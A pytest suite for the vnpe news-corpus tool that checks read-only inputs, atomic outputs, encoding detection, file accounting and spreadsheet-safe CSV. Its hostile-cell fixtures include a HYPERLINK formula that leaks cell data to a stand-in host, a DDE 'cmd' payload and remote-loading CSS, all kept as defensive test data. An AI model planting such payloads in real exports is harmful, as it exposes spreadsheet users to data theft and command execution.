"""The user's data is safe: inputs never overwritten, outputs whole or not at all, CSVs inert in
spreadsheets, every file below the corpus accounted for, no silent mojibake, quiet broken pipes.

Every fixture is made here: links (to files and folders, dangling, loops, outside), case and NFC/NFD
name collisions, hostile cells, a Windows-1252 English file with one pound sign.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import os
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
import warnings
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vnpe import cli
from vnpe.load import (
    BadFileWarning,
    SkippedFileWarning,
    decode_bytes,
    implausible_characters,
    load_corpus,
    scan_corpus,
    skipped_files,
)
from vnpe.safeio import (
    FORMULA_START,
    OutputError,
    atomic_path,
    check_output,
    spreadsheet_safe_cell,
    unescape_cell,
    write_csv,
)

REPO = Path(__file__).resolve().parent.parent
SEEDS = REPO / "seeds"
EN = "Peru and Viet Nam sign a deal\n\nThe two sides signed a deal on mining in Lima on Monday.\n"
VI = "Việt Nam và Peru ký thỏa thuận\n\nHai bên ký thỏa thuận về khai khoáng tại Lima hôm thứ Hai.\n"
ENV = {**os.environ, "PYTHONHASHSEED": "0", "PYTHONPATH": str(REPO)}


def vnpe(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "vnpe", *args], capture_output=True, text=True, check=False,
                          env=ENV, **kw)


def one_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    folder = tmp_path / "Tin tức"
    folder.mkdir()
    (folder / "en.txt").write_text(EN, encoding="utf-8")
    (folder / "vi.txt").write_text(VI, encoding="utf-8")
    return folder


# --------------------------------------------------------------------------------------------------
# 1. Inputs are read-only


def test_output_onto_an_input_file_is_refused_before_any_work(corpus: Path, capsys, monkeypatch) -> None:
    before = (corpus / "en.txt").read_bytes()

    def no_work(*a, **k):
        raise AssertionError("the corpus was loaded before the output was checked")

    monkeypatch.setattr("vnpe.load.load_corpus", no_work)
    assert cli.main(["articles", str(corpus), "-o", str(corpus / "en.txt")]) == 2
    assert "inside the corpus folder" in one_line(capsys.readouterr().err)
    assert cli.main(["articles", str(corpus), "-o", str(corpus / "new" / "a.csv")]) == 2
    assert cli.main(["articles", str(corpus), "-o", str(corpus)]) == 2
    assert cli.main(["lines", str(corpus), "--skipped", str(corpus / "skipped.csv")]) == 2
    assert (corpus / "en.txt").read_bytes() == before
    assert sorted(p.name for p in corpus.iterdir()) == ["en.txt", "vi.txt"]


def test_output_spelled_through_a_link_case_or_nfd_is_refused(corpus: Path, tmp_path: Path, capsys) -> None:
    (tmp_path / "shortcut").symlink_to(corpus)
    (tmp_path / "file_link.csv").symlink_to(corpus / "vi.txt")
    nfd = tmp_path / unicodedata.normalize("NFD", corpus.name)
    assert nfd.name != corpus.name and not nfd.exists()  # a distinct name on this file system
    spellings = [tmp_path / "shortcut" / "out.csv", tmp_path / "file_link.csv", nfd / "out.csv",
                 tmp_path / corpus.name.upper() / "out.csv", corpus / "." / ".." / corpus.name / "x.csv"]
    for out in spellings:
        assert cli.main(["articles", str(corpus), "-o", str(out)]) == 2, out
        assert "refusing" in one_line(capsys.readouterr().err)
    assert (corpus / "vi.txt").read_text(encoding="utf-8") == VI


def test_taxonomy_file_and_report_folders_are_protected(corpus: Path, tmp_path: Path, capsys) -> None:
    tax = tmp_path / "tax.toml"
    tax.write_text("", encoding="utf-8")
    assert cli.main(["areas", str(corpus), "--taxonomy", str(tax), "-o", str(tax)]) == 2
    assert "input file" in one_line(capsys.readouterr().err)
    for out in [corpus, corpus / "report", tmp_path]:  # the corpus, inside it, holding it
        assert cli.main(["report", str(corpus), "-o", str(out)]) == 2
        assert "refusing" in one_line(capsys.readouterr().err)
    other = tmp_path / "documents"
    other.mkdir()
    (other / "thesis.docx").write_bytes(b"precious")
    assert cli.main(["report", str(corpus), "-o", str(other)]) == 2
    assert "not a vnpe report" in one_line(capsys.readouterr().err)
    assert (other / "thesis.docx").read_bytes() == b"precious"


def test_output_naming_a_folder_exits_2_before_work(corpus: Path, tmp_path: Path, capsys) -> None:
    (tmp_path / "out").mkdir()
    start = time.monotonic()
    proc = vnpe("articles", str(SEEDS), "-o", str(tmp_path / "out"))
    assert proc.returncode == 2 and "is a folder" in one_line(proc.stderr)
    assert time.monotonic() - start < 60  # sanity only; "before work" is checked below without timing
    assert cli.main(["articles", str(corpus), "-o", str(tmp_path / "out")]) == 2
    assert "is a folder" in one_line(capsys.readouterr().err)
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    assert cli.main(["articles", str(corpus), "-o", str(tmp_path / "afile" / "a.csv")]) == 2
    assert "not a folder" in one_line(capsys.readouterr().err)


def test_check_output_accepts_ordinary_paths(corpus: Path, tmp_path: Path) -> None:
    assert check_output(tmp_path / "a.csv", corpus=corpus) == (tmp_path / "a.csv").resolve()
    assert check_output(tmp_path / "new" / "deeper" / "a.csv", corpus=corpus).name == "a.csv"
    sibling = tmp_path / (corpus.name + " 2")  # a name that starts like the corpus folder's
    assert check_output(sibling / "a.csv", corpus=corpus).parent.name == sibling.name
    with pytest.raises(OutputError):
        check_output(corpus / "x.csv", corpus=corpus)


# --------------------------------------------------------------------------------------------------
# 2. Atomic outputs


def test_atomic_path_leaves_the_target_on_error(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_bytes(b"complete")
    with pytest.raises(KeyboardInterrupt), atomic_path(target) as tmp:
        tmp.write_bytes(b"half")
        raise KeyboardInterrupt
    assert target.read_bytes() == b"complete"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    with atomic_path(target) as tmp:
        tmp.write_bytes(b"new")
    assert target.read_bytes() == b"new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_atomic_write_goes_through_a_link_and_keeps_permissions(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old", encoding="utf-8")
    real.chmod(0o640)
    (tmp_path / "link.csv").symlink_to(real)
    write_csv(pd.DataFrame({"a": [1]}), tmp_path / "link.csv")
    assert (tmp_path / "link.csv").is_symlink()
    assert real.read_bytes() == b"\xef\xbb\xbfa\r\n1\r\n"
    assert real.stat().st_mode & 0o777 == 0o640


def test_replace_folder_puts_the_earlier_folder_back_when_interrupted(tmp_path: Path, monkeypatch) -> None:
    from vnpe import safeio

    (tmp_path / "target").mkdir()
    (tmp_path / "target" / "index.html").write_text("earlier", encoding="utf-8")
    (tmp_path / "new").mkdir()
    (tmp_path / "new" / "index.html").write_text("new", encoding="utf-8")
    real_replace, calls = os.replace, []

    def replace(src, dst):
        calls.append(src)
        if len(calls) == 2:  # interrupted between moving the earlier folder away and the new one in
            raise KeyboardInterrupt
        real_replace(src, dst)

    monkeypatch.setattr(safeio.os, "replace", replace)
    with pytest.raises(KeyboardInterrupt):
        safeio.replace_folder(tmp_path / "new", tmp_path / "target", tmp_path / "previous")
    monkeypatch.setattr(safeio.os, "replace", real_replace)
    assert (tmp_path / "target" / "index.html").read_text(encoding="utf-8") == "earlier"
    safeio.replace_folder(tmp_path / "new", tmp_path / "target", tmp_path / "previous")
    assert (tmp_path / "target" / "index.html").read_text(encoding="utf-8") == "new"


def test_signals_are_held_during_a_critical_section() -> None:
    from vnpe.safeio import Terminated, signals_deferred, signals_raise

    done = []
    with signals_raise(), pytest.raises(Terminated):
        with signals_deferred():
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(0.05)
            done.append("renamed")
        done.append("never")
    assert done == ["renamed"]
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL


def _big_corpus(folder: Path, copies: int) -> Path:
    folder.mkdir()
    for k in range(copies):
        for p in sorted(SEEDS.glob("*.txt")):
            shutil.copyfile(p, folder / f"{k:03d}_{p.name}")
    return folder


def _signal_mid_write(proc: subprocess.Popen, out_dir: Path, target: Path, full_size: int, sig: int) -> bool:
    """Send ``sig`` to ``proc`` as soon as its temporary file beside ``target`` appears, less than half
    written. Returns False when the child finished first."""
    deadline = time.monotonic() + 120
    while proc.poll() is None and time.monotonic() < deadline:
        for tmp in (p for p in out_dir.iterdir() if p != target):
            with contextlib.suppress(FileNotFoundError):
                if tmp.stat().st_size < full_size // 2:
                    proc.send_signal(sig)
                    return True
        time.sleep(0.001)
    return False


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
def test_interrupted_lines_leaves_the_earlier_csv_byte_identical(tmp_path: Path, sig: int) -> None:
    folder = _big_corpus(tmp_path / "corpus", 60)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "lines.csv"
    assert vnpe("lines", str(folder), "-o", str(target)).returncode == 0  # an earlier, complete output
    before = target.read_bytes()
    for _attempt in range(3):  # the child may win the race to the end of a short write: try again
        proc = subprocess.Popen([sys.executable, "-m", "vnpe", "lines", str(folder), "-o", str(target)],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=ENV)
        sent = _signal_mid_write(proc, out_dir, target, len(before), sig)
        _, err = proc.communicate(timeout=60)
        if sent and proc.returncode != 0:
            break
        sent = False  # finished before the signal landed (a loaded machine): the file was replaced whole
        assert target.read_bytes() == before  # finished: the same corpus gives the same bytes
    assert sent, "the child always finished before its temporary file was seen"
    assert proc.returncode == (130 if sig == signal.SIGINT else 143), err
    assert b"Traceback" not in err
    assert target.read_bytes() == before
    assert sorted(p.name for p in out_dir.iterdir()) == ["lines.csv"]  # no temporary file left


TINY_SLOW_NOTEBOOK = [
    ("markdown", "# Slow\nA notebook that takes its time."),
    ("parameters", 'corpus_dir = "../seeds"'),
    ("code", "import time\nopen(corpus_dir + '/../started', 'w').close()\ntime.sleep(120)"),
]


def _notebooks(folder: Path, cells) -> Path:
    from test_report import write_notebook  # the report tests' notebook writer

    folder.mkdir()
    write_notebook(folder / "01_slow.ipynb", cells)
    return folder


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
def test_interrupted_report_leaves_the_earlier_report_and_no_temporary_folder(tmp_path: Path, sig: int) -> None:
    import psutil

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "en.txt").write_text(EN, encoding="utf-8")
    nbs = _notebooks(tmp_path / "nbs", TINY_SLOW_NOTEBOOK)
    out = tmp_path / "reports"
    out.mkdir()
    (out / "index.html").write_text("<p>earlier report</p>", encoding="utf-8")
    (out / "01_slow.html").write_text("<p>earlier page</p>", encoding="utf-8")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    script = ("import sys\nfrom vnpe.report import build_report\nfrom vnpe.safeio import signals_raise\n"
              "with signals_raise():\n"
              f"    build_report({str(corpus)!r}, {str(out)!r}, notebooks_dir={str(nbs)!r}, progress=False)\n")
    proc = subprocess.Popen([sys.executable, "-c", script], env={**ENV, "TMPDIR": str(tmpdir)},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while not (tmp_path / "started").exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
    children = psutil.Process(proc.pid).children(recursive=True)
    assert children  # the kernel
    proc.send_signal(sig)
    proc.communicate(timeout=60)
    assert proc.returncode != 0
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus", "nbs", "reports", "started", "tmp"]
    assert list(tmpdir.iterdir()) == []  # the vnpe-report-* working folder is gone
    gone, alive = psutil.wait_procs(children, timeout=10)
    assert not alive, [p.cmdline() for p in alive]


# --------------------------------------------------------------------------------------------------
# 3. Spreadsheet-safe CSV

HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "＝1+1", "'=already quoted"]


def _evaluated(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_START


def _cells(path: Path, encoding: str = "utf-8-sig") -> list[str]:
    with open(path, encoding=encoding, newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_no_csv_cell_is_evaluated_unless_raw(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for i, cell in enumerate(HOSTILE):
        body = f"{cell}\n\n{cell} said the minister in Lima on Monday about mining.\n"
        (corpus / f"{i}.txt").write_text(body, encoding="utf-8")
    (corpus / "=1+1.txt").write_text("Sáng 17/11 theo giờ địa phương, Hà Nội\n\nHai bên hợp tác.\n",
                                     encoding="utf-8")
    (corpus / "-cmd.txt").write_text(EN, encoding="utf-8")
    for command in ["articles", "lines", "areas", "overlap", "passages"]:
        out = tmp_path / f"{command}.csv"
        proc = vnpe(command, str(corpus), "-o", str(out))
        assert proc.returncode == 0, proc.stderr
        assert out.read_bytes().startswith(b"\xef\xbb\xbf")
        bad = [c for c in _cells(out) if _evaluated(c)]
        assert bad == [], (command, bad[:5])
    raw = tmp_path / "raw.csv"
    assert vnpe("lines", str(corpus), "-o", str(raw), "--raw-csv").returncode == 0
    assert not raw.read_bytes().startswith(b"\xef\xbb\xbf")
    raw_cells = set(_cells(raw, "utf-8"))
    assert {"+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"} <= raw_cells
    safe = pd.read_csv(tmp_path / "lines.csv", encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert (safe.map(unescape_cell) == pd.read_csv(raw, keep_default_na=False, dtype=str)).all().all()
    articles = pd.read_csv(tmp_path / "articles.csv", encoding="utf-8-sig", keep_default_na=False)
    assert "'--11-17" in set(articles["date_partial"])  # a day and month only: a sheet would compute -6
    raw_articles = tmp_path / "raw_articles.csv"
    assert vnpe("articles", str(corpus), "-o", str(raw_articles), "--raw-csv").returncode == 0
    assert "--11-17" in set(pd.read_csv(raw_articles, keep_default_na=False)["date_partial"])


def test_bom_csv_reads_back_unchanged(tmp_path: Path) -> None:
    df = pd.DataFrame({"doc_id": ["Tin tức/bài", "b"], "title": ["Hội đàm Lương Cường – Boluarte", "Lima"],
                       "n": [1, 2]})
    write_csv(df, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes()[:3] == b"\xef\xbb\xbf"
    back = pd.read_csv(tmp_path / "a.csv", encoding="utf-8-sig")
    pd.testing.assert_frame_equal(back, df, check_dtype=False)
    buf = io.StringIO()
    write_csv(df, buf, raw=True)
    assert buf.getvalue().startswith("doc_id,")


@given(st.text(max_size=30))
def test_spreadsheet_safe_cells_round_trip(text: str) -> None:
    safe = spreadsheet_safe_cell(text)
    assert not _evaluated(safe)
    assert unescape_cell(safe) == text


def test_skipped_listing_is_written_and_safe(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(EN, encoding="utf-8")
    (corpus / "=notes.md").write_text("x", encoding="utf-8")
    (corpus / "gone.txt").symlink_to(corpus / "missing.txt")
    proc = vnpe("articles", str(corpus), "-o", str(tmp_path / "a.csv"), "--skipped", str(tmp_path / "s.csv"))
    assert proc.returncode == 0
    assert "gone.txt" in proc.stderr and "=notes.md" in proc.stderr
    skipped = pd.read_csv(tmp_path / "s.csv", encoding="utf-8-sig")
    assert dict(zip(skipped.path, skipped.reason, strict=True)) == {"'=notes.md": "not_article",
                                                                   "gone.txt": "dangling_link"}


# --------------------------------------------------------------------------------------------------
# 4. Every file accounted for


def _tree(tmp_path: Path) -> Path:
    root = tmp_path / "corpus"
    (root / "sub" / "deep").mkdir(parents=True)
    (root / "hidden_dir" / ".git").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "o.txt").write_text(EN, encoding="utf-8")
    (root / "story.txt").write_text(EN, encoding="utf-8")
    (root / "story.TXT").write_text(EN.replace("Monday", "Tuesday"), encoding="utf-8")
    (root / unicodedata.normalize("NFC", "bài.txt")).write_text(VI, encoding="utf-8")
    (root / unicodedata.normalize("NFD", "bài.txt")).write_text(VI.replace("Hai", "Ba"), encoding="utf-8")
    (root / "sub" / "deep" / "in.txt").write_text(VI, encoding="utf-8")
    (root / "hidden_dir" / ".git" / "HEAD.txt").write_text("x", encoding="utf-8")
    (root / ".draft.txt").write_text(EN, encoding="utf-8")
    (root / "notes.md").write_text("notes", encoding="utf-8")
    (root / "alias.txt").symlink_to("story.txt")                      # a file read twice before
    (root / "sub_link").symlink_to("sub")                             # a folder read twice before
    (root / "sub" / "deep" / "up").symlink_to("..")                   # a loop
    (root / "a_loop.txt").symlink_to("b_loop.txt")
    (root / "b_loop.txt").symlink_to("a_loop.txt")
    (root / "dangling.txt").symlink_to("nowhere.txt")
    (root / "outside.txt").symlink_to(tmp_path / "outside" / "o.txt")
    (root / "outside_dir").symlink_to(tmp_path / "outside")
    os.mkfifo(root / "pipe.txt")
    return root


def test_every_file_below_the_folder_is_read_or_skipped_with_a_reason(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        articles = load_corpus(root)
    skipped = skipped_files(root)
    reasons = dict(zip(skipped.path, skipped.reason, strict=True))
    assert reasons == {
        ".draft.txt": "hidden", "hidden_dir/.git/": "hidden", "notes.md": "not_article",
        "alias.txt": "duplicate", "sub_link/": "duplicate", "sub/deep/up/": "link_loop",
        "a_loop.txt": "link_loop", "b_loop.txt": "link_loop", "dangling.txt": "dangling_link",
        "outside.txt": "link_outside", "outside_dir": "link_outside", "pipe.txt": "not_regular",
    }
    assert "story.txt" in skipped.set_index("path").loc["alias.txt", "detail"]
    # Reconcile: every name below the folder (links not followed) is read, skipped, or inside a
    # skipped folder.
    read = set(articles.path)
    listed = read | set(reasons)
    for dirpath, dirnames, filenames in os.walk(root):
        for name in filenames + dirnames:
            rel = Path(dirpath, name).relative_to(root).as_posix()
            inside_skipped = any(rel.startswith(s) for s in reasons if s.endswith("/"))
            if Path(dirpath, name).is_dir() and not Path(dirpath, name).is_symlink():
                continue
            assert rel in listed or rel + "/" in listed or inside_skipped, rel
    # Warnings name loops and dangling links.
    text = "\n".join(str(w.message) for w in caught if w.category is SkippedFileWarning)
    for name in ["a_loop.txt", "b_loop.txt", "sub/deep/up/", "dangling.txt", "outside.txt", "notes.md"]:
        assert name in text


def test_doc_ids_are_unique_and_paths_are_as_on_disk(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    articles = load_corpus(root, warn=False)
    assert articles.doc_id.is_unique
    assert len(articles) == 5
    nfd = unicodedata.normalize("NFD", "bài.txt")
    assert set(articles.path) == {"story.txt", "story.TXT", "bài.txt", nfd, "sub/deep/in.txt"}
    for rel in articles.path:
        assert (root / rel).is_file()  # the path finds the file on disk (an NFD name included)
    ids = dict(zip(articles.path, articles.doc_id, strict=True))

    def suffix(rel: str) -> str:
        return "~" + hashlib.sha1(os.fsencode(rel)).hexdigest()[:6]

    assert ids == {"sub/deep/in.txt": "sub/deep/in", "story.TXT": "story", "story.txt": "story" + suffix("story.txt"),
                   "bài.txt": "bài", nfd: "bài" + suffix(nfd)}
    # Stable: the same ids on every run, whatever the order files were created in.
    assert load_corpus(root, warn=False).doc_id.tolist() == articles.doc_id.tolist()


def test_unreadable_folder_is_named(tmp_path: Path, monkeypatch) -> None:
    root = tmp_path / "corpus"
    (root / "locked").mkdir(parents=True)
    (root / "a.txt").write_text(EN, encoding="utf-8")
    real_scandir = os.scandir

    def scandir(path):  # root may read anything: simulate a folder without read permission
        if Path(path).name == "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    skipped = scan_corpus(root).skipped
    assert skipped == [("locked/", "unreadable", "cannot list the folder: Permission denied")]


def test_a_folder_with_nothing_readable_says_what_was_skipped(tmp_path: Path, capsys) -> None:
    root = tmp_path / "corpus"
    root.mkdir()
    (root / "a.md").write_text("x", encoding="utf-8")
    assert cli.main(["articles", str(root)]) == 2
    line = one_line(capsys.readouterr().err)
    assert "no articles" in line and "a.md" in line


# --------------------------------------------------------------------------------------------------
# 5. No silent mojibake


ENGLISH_POUND = ("UK engineering firm wins Peru contract\n\nLONDON - The British company said on Monday that "
                 "the contract was worth \u00a315.8m and that work in Lima would start next year.\n")


def test_cp1252_english_with_one_pound_sign(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes(ENGLISH_POUND.encode("cp1252"))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        articles = load_corpus(tmp_path)
    assert (articles.encoding[0], articles.status[0]) == ("cp1252", "ok")
    assert "\u00a315.8m" in articles.raw[0] and "\uff63" not in articles.raw[0]
    assert not [w for w in caught if issubclass(w.category, BadFileWarning)]


def test_an_implausible_detection_is_replaced_or_flagged(monkeypatch) -> None:
    import vnpe.load

    # Without the Western preference the detector's own first choice for a short text is cp932.
    monkeypatch.setattr(vnpe.load, "PREFERRED_LEGACY", ())
    short = "Deal worth \u00a315.8m".encode("cp1252")
    d = decode_bytes(short)
    assert (d.text, d.encoding, d.status) == ("Deal worth \u00a315.8m", "cp1252", "ok")
    mixed = "Moscow (\u041c\u043e\u0441\u043a\u0432\u0430): the talks in Lima".encode("cp1251")
    d = decode_bytes(mixed)
    assert d.status == "guessed" and d.encoding in d.message
    # Real text in its own legacy code page is not touched by the rule.
    japanese = "\u6771\u4eac\u3067\u4f1a\u8b70\u304c\u958b\u304b\u308c\u305f\u3002"
    russian = "Москва и Лима подписали соглашение о сотрудничестве в области энергетики"
    for text, enc in [(japanese, "cp932"), (russian, "cp1251")]:
        d = decode_bytes(text.encode(enc))
        assert (d.status, d.text) == ("ok", text), (d, enc)


def test_implausible_characters_is_a_script_rule() -> None:
    assert implausible_characters("worth \uff6315.8m")[0] == 1
    assert implausible_characters("Giá phở ở Hà Nội tăng £2")[0] == 0
    assert implausible_characters("\u6771\u4eac\u3067 Tokyo \u4f1a\u8b70")[0] == 0
    assert implausible_characters("Lima \u0080 control")[0] == 1


# --------------------------------------------------------------------------------------------------
# 6. Reproducible with bad files


def test_warnings_carry_no_temporary_path_or_process_id(tmp_path: Path, monkeypatch) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "good.txt").write_text(EN, encoding="utf-8")
    (corpus / "bad.txt").write_bytes(b"\x00\x01")
    (corpus / "notes.md").write_text("x", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        load_corpus("corpus")
    shown = [warnings.formatwarning(w.message, w.category, w.filename, w.lineno, None) for w in caught]
    assert shown == [
        "corpus:0: BadFileWarning: bad.txt: binary: NUL bytes and no byte-order mark: not a text file\n",
        "corpus:0: SkippedFileWarning: skipped (not an article format): notes.md\n",
    ]


# --------------------------------------------------------------------------------------------------
# 7. Broken pipes


def test_broken_pipe_ends_quietly(tmp_path: Path) -> None:
    folder = _big_corpus(tmp_path / "corpus", 6)
    proc = subprocess.run(["bash", "-c", f'"{sys.executable}" -m vnpe lines "{folder}" | head -1; '
                           'echo "status=${PIPESTATUS[0]}" >&2'], capture_output=True, text=True, env=ENV,
                          check=False)
    assert proc.stdout.lstrip("\ufeff").startswith("doc_id,line_no")
    assert "Traceback" not in proc.stderr and "BrokenPipe" not in proc.stderr
    assert proc.stderr.strip().splitlines()[-1] in ("status=0", "status=141")


# --------------------------------------------------------------------------------------------------
# Reports: bad files named on stderr, the folder replaced as a whole, the sanitiser


QUICK_NOTEBOOK = [
    ("markdown", "# Quick\nHow many articles?"),
    ("parameters", 'corpus_dir = "../seeds"'),
    ("code", "import vnpe\narticles = vnpe.load_corpus(corpus_dir, progress=False)\nlen(articles)"),
]


def test_report_names_bad_files_and_replaces_the_whole_folder(tmp_path: Path, capsys, monkeypatch) -> None:
    from vnpe import report

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "good.txt").write_text(EN, encoding="utf-8")
    (corpus / "bad.txt").write_bytes(b"\x00\x01")
    (corpus / "dangling.txt").symlink_to("nowhere.txt")
    nbs = _notebooks(tmp_path / "nbs", QUICK_NOTEBOOK)
    monkeypatch.setattr(report, "notebooks_folder", lambda: nbs)
    out = tmp_path / "reports"
    out.mkdir()
    for name in ["index.html", "01_slow.html", "02_old.html"]:  # an earlier report with another page
        (out / name).write_text("<p>earlier</p>", encoding="utf-8")
    assert cli.main(["report", str(corpus), "-o", str(out)]) == 0
    err = capsys.readouterr().err
    assert "vnpe: warning: bad.txt: binary" in err and "dangling.txt" in err
    assert sorted(p.name for p in out.iterdir()) == ["01_slow.html", "index.html"]
    page = (out / "01_slow.html").read_text(encoding="utf-8")
    assert "earlier" not in page and "bad.txt: binary" in page
    assert str(tmp_path) not in page and "ipykernel" not in page
    assert "mark.vnpe-passage" in page  # the report's own stylesheet for vnpe's classes
    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus", "nbs", "reports"]
    # Rendered again from a copy of the corpus elsewhere: byte-identical, warnings included.
    elsewhere = tmp_path / "elsewhere" / "corpus"
    shutil.copytree(corpus, elsewhere, symlinks=True)
    assert cli.main(["report", str(elsewhere), "-o", str(tmp_path / "again")]) == 0
    for name in ["01_slow.html", "index.html"]:
        assert (tmp_path / "again" / name).read_bytes() == (out / name).read_bytes(), name


def test_sanitiser_drops_styles_that_load_and_keeps_passage_colours() -> None:
    from vnpe.plots import PASSAGES_CSS, passages_html
    from vnpe.report import clean_html, unsafe_markup

    for css in ["@import url(http://evil.test/a.css);", "p { background: url(//evil.test/x.png) }",
                "@font-face { src: url(x.woff) }", "p { background: u\\72l(http://evil.test) }",
                "@im/**/port 'x.css';"]:
        assert clean_html(f"<style>{css}</style><p>text</p>") == "<p>text</p>", css
    kept = clean_html("<style>.dataframe td { text-align: right; }</style><table class='dataframe'></table>")
    assert "<style>.dataframe td" in kept
    assert unsafe_markup("<style>@import url(http://evil.test/a.css);</style>")
    assert not unsafe_markup("<style>.x { background: url(data:image/png;base64,AAAA) }</style>")
    spans = pd.DataFrame({"start_a": [0], "end_a": [4], "start_b": [6], "end_b": [10]})
    cleaned = clean_html(passages_html("Lima talks", "Talks Lima", spans))
    assert 'class="vnpe-passage"' in cleaned and "mark.vnpe-passage" in cleaned
    assert "style=" not in passages_html("Lima talks", "Talks Lima", spans)
    assert "background-color" in PASSAGES_CSS


@settings(max_examples=25, deadline=None)
@given(st.sets(st.sampled_from(["a", "A", "bài", unicodedata.normalize("NFD", "bài"), "BÀI", "x/y", "X/y",
                                "x/Y"]), min_size=1).flatmap(
    lambda names: st.tuples(st.just(sorted(names)), st.lists(st.sampled_from([".txt", ".TXT", ".Txt"]),
                                                             min_size=len(names), max_size=len(names)))))
def test_doc_ids_are_unique_for_any_collision(case) -> None:
    import tempfile

    names, suffixes = case
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        made = set()
        for name, suffix in zip(names, suffixes, strict=True):
            path = root / (name + suffix)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(EN, encoding="utf-8")
            made.add(path.relative_to(root).as_posix())
        files = scan_corpus(root).files
        ids = [f.doc_id for f in files]
        assert {f.path for f in files} == made
        assert len({i.casefold() for i in ids}) == len(ids)
        assert scan_corpus(root).files == files  # stable
